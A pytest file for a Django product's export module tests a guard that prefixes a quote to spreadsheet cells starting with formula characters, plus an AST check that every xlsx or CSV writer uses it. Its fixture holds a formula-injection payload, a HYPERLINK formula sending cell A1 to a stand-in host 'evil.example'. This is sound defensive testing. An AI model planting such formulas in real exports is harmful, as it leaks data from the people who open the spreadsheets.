"""The formula guard (issue 17, finding 5): a text cell that begins with = + - @, a tab or a carriage
return is written with a leading single quote in every xlsx and CSV the product produces, so that a
party named "=HYPERLINK(…)" is text, not a live formula, in the reader's spreadsheet. Numbers stay
numbers. The structural test below fails when a module writes a sheet or a CSV row without the guard."""

import ast
import csv
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from zhifa.core import exports
from zhifa.core.exports import cell_value, csv_text, safe_row, streamed_bytes, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
SRC = Path(exports.__file__).resolve().parents[1]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("东区=1", "东区=1"),
        ("", ""),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, ""),
    ],
)
def test_cell_value_defuses_text_and_keeps_numbers(value, expected):
    assert cell_value(value) == expected
    assert type(cell_value(value)) is type(expected)


def test_xlsx_cell_is_text_with_the_quote():
    content = xlsx_bytes(["当事人", "罚款"], [[EVIL, Decimal("-100.00")]])
    sheet = load_workbook(BytesIO(content)).active
    name, fine = sheet["A2"], sheet["B2"]
    assert (name.data_type, name.value) == ("s", "'" + EVIL)
    assert (fine.data_type, fine.value) == ("n", -100)


def test_csv_text_defuses_but_money_stays_a_number():
    assert csv_text(EVIL) == "'" + EVIL
    assert csv_text(Decimal("-1234.5"), "money") == "-1,234.50"
    assert csv_text(-3) == "-3"


@pytest.mark.django_db
@pytest.mark.usefixtures("demo_db")
def test_case_export_xlsx_and_csv_write_a_formula_name_as_text(client):
    from django.contrib.auth import get_user_model

    from zhifa.cases.models import Case
    from zhifa.cases.selectors import cases_visible_to

    user = get_user_model().objects.get(username="dh_zf1")
    case = cases_visible_to(user).exclude(number="").order_by("pk").first()
    Case.objects.filter(pk=case.pk).update(party_name=EVIL)
    client.force_login(user)

    content = streamed_bytes(client.get("/cases/export.xlsx", {"now": "1"}))
    sheet = load_workbook(BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("当事人")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[0].value == case.number]
    assert [(c.data_type, c.value) for c in cells] == [("s", "'" + EVIL)]

    text = streamed_bytes(client.get("/cases/export.xlsx", {"format": "csv"})).decode("utf-8-sig")
    rows = [row for row in csv.reader(StringIO(text)) if row and row[0] == case.number]
    assert [row[column] for row in rows] == ["'" + EVIL]


def test_public_feed_csv_writes_a_formula_subject_as_text(client, agencies):
    from tests.publicity.conftest import published

    entry = published(agencies["east_market"], subject_name=EVIL)
    text = client.get("/gs/feed.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(StringIO(text)))
    assert [row["subject"] for row in rows if row["id"] == str(entry.pk)] == ["'" + EVIL]
    # the JSON feed keeps the entry exactly as hashed
    assert client.get("/gs/feed.json").json()["entries"][0]["subject"] == EVIL


# ---- structure: no writer without the guard ---------------------------------------------------------

GUARDS = {"safe_row", "cell_value", "csv_text", "_cell"}
WRITE_METHODS = {"append", "writerow", "writerows"}
WRITER_NAMES = ("sheet", "ws", "writer")


def _guarded(node: ast.expr) -> bool:
    """A row built by a guard: safe_row(...), or a comprehension/list whose every cell is a guard call."""
    if isinstance(node, ast.Call):
        return getattr(node.func, "id", getattr(node.func, "attr", "")) in GUARDS
    if isinstance(node, ast.ListComp):
        return _guarded(node.elt)
    if isinstance(node, ast.List):
        return all(_guarded(element) for element in node.elts)
    return False


def _writes(tree: ast.AST):
    """Every `<sheet|ws|writer>.append/writerow(...)` call: a row written into a worksheet or a CSV."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            receiver = node.func.value
            name = getattr(receiver, "id", getattr(receiver, "attr", ""))
            if node.func.attr in WRITE_METHODS and any(word in name.lower() for word in WRITER_NAMES):
                yield node


def _writer_modules():
    for path in sorted(SRC.rglob("*.py")):
        text = path.read_text()
        if "openpyxl" in text or "import csv" in text or "xlsxwriter" in text:
            yield path, ast.parse(text)


def test_every_sheet_and_csv_row_goes_through_the_guard():
    unguarded = [
        f"{path.relative_to(SRC)}:{call.lineno}"
        for path, tree in _writer_modules()
        for call in _writes(tree)
        if not call.args or not _guarded(call.args[0])
    ]
    assert unguarded == []


def test_every_module_writing_cells_is_known():
    """A new module that writes sheets or CSV must appear here after it is made to use the guard (and
    the test above then checks each row it writes)."""
    writers = {str(path.relative_to(SRC)) for path, tree in _writer_modules() if any(_writes(tree))}
    assert writers == {
        "complaints/report.py",
        "core/exports.py",
        "core/xlsx_import.py",
        "publicity/views/feed.py",
        "stats/exports.py",
        "supervision/campaigns/report.py",
    }


def test_the_structural_check_catches_a_raw_writer():
    raw = ast.parse("sheet.append([name, fine])\nwriter.writerow(row)\nsheet.append(safe_row(row))")
    assert [_guarded(call.args[0]) for call in _writes(raw)] == [False, False, True]
    assert safe_row(["=x", 1]) == ["'=x", 1]
